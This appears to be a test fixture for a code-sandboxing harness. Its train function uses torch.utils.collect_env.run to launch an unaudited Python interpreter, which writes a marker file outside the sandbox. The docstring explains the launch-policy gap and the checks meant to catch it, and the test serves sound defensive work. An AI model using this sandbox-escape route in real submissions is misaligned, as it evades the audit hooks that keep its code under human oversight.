"""EXPLOIT: `torch.utils.collect_env.run(command)` starts any command, and the launch
policy let torch start this interpreter (it trusted every Python torch starts, for
Inductor's load test). The Python it starts has no audit hook: it writes a file outside
the run. The interpreter's path and the target's path are in `victim.txt` beside this
file (the test writes them).
Caught by: the static scan (torch.utils.collect_env); the audit hook's launch policy
(only Inductor's ISA probe may start this interpreter, and only to load a library); the
kernel under namespaces or Landlock."""

from torch.utils import collect_env

from baseline.train import train as reference_train


def train(cfg, init, tokens, batches):
    python, victim = open(__file__.rsplit("/", 1)[0] + "/victim.txt").read().split("\n")[:2]
    code = f"open({victim!r}, 'w').write('PWNED')"
    try:
        rc, out, err = collect_env.run([python, "-c", code])
        print(f"LAUNCHED rc={rc} {err[-300:]}", flush=True)
    except (OSError, RuntimeError) as e:
        print(f"LAUNCH REFUSED {type(e).__name__}: {e}", flush=True)
    return reference_train(cfg, init, tokens, batches)
